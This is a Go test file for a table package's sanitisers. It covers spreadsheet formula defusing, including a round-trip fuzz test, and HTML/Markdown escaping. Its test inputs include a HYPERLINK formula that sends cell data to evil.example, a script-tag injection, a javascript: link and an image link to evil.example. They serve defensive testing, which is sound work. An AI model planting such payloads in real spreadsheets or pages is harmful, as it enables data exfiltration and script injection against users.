package table

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestDefuseFormula(t *testing.T) {
	tests := []struct{ in, out string }{
		{"", ""},
		{"plain", "plain"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'quoted", "''quoted"},
		{"a=1", "a=1"},
		{" =1", " =1"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			assert.Equal(t, tt.out, DefuseFormula(tt.in))
			assert.Equal(t, tt.in, RestoreFormula(DefuseFormula(tt.in)), "the round trip keeps the cell")
		})
	}
}

func FuzzDefuseFormula(f *testing.F) {
	for _, s := range []string{"", "=1", "'", "''=", "-", "\t", "a"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		d := DefuseFormula(cell)
		if d != "" && (d[0] == '=' || d[0] == '+' || d[0] == '-' || d[0] == '@' || d[0] == '\t' || d[0] == '\r') {
			t.Fatalf("%q defused to %q, which a spreadsheet runs", cell, d)
		}
		if back := RestoreFormula(d); back != cell {
			t.Fatalf("%q -> %q -> %q", cell, d, back)
		}
	})
}

func TestMarkdownText(t *testing.T) {
	tests := []struct{ in, out string }{
		{"plain text", "plain text"},
		{"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
		{"Ops & Security", "Ops &amp; Security"},
		{"[click](javascript:alert(1))", `\[click\](javascript:alert(1))`},
		{"![x](http://evil.example/x.png)", `!\[x\](http://evil.example/x.png)`},
		{"*bold* _it_ `code` ~~del~~ # h", "\\*bold\\* \\_it\\_ \\`code\\` \\~\\~del\\~\\~ \\# h"},
		{`back\slash`, `back\\slash`},
		{"a\nb", "a\nb"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			assert.Equal(t, tt.out, MarkdownText(tt.in))
		})
	}
}
